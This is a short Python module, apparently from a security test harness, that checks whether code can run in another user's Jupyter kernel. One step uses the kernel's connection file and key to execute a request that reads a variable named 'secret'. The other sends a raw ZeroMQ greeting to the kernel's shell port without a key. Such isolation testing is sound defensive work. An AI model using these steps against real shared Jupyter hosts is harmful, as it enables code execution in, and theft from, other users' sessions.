"""J2: runs code in the kernel of somebody else"""
from kit import *

# With the key of its connection file, as any front end does.
CODE = """
import json, sys
from jupyter_client import BlockingKernelClient
client = BlockingKernelClient()
client.load_connection_info(json.load(open(sys.argv[1])))
client.start_channels()
client.execute("", user_expressions={"found": "secret"})
print(client.get_shell_msg(timeout=50)["content"]["user_expressions"])
"""
# RFC 23/ZMTP 3.1, the greeting: signature, version, mechanism NULL.
GREETING = b"\xff" + bytes(8) + b"\x7f" + b"\x03\x01" + b"NULL".ljust(20, b"\0") + bytes(32)


def greeted(w):
    answer = connect("127.0.0.1", w.kernel["shell_port"], GREETING)
    if not answer.startswith(b"\xff"):
        raise RuntimeError(f"no ZeroMQ socket: {answer!r}")
    return "greeted"


def attack(w):
    yield "with its key", lambda: run(sys.executable, "-c", CODE, w.kernel["file"])
    yield "its port, without a key", lambda: greeted(w)


def twin(w):
    yield "ports of its own", own_server
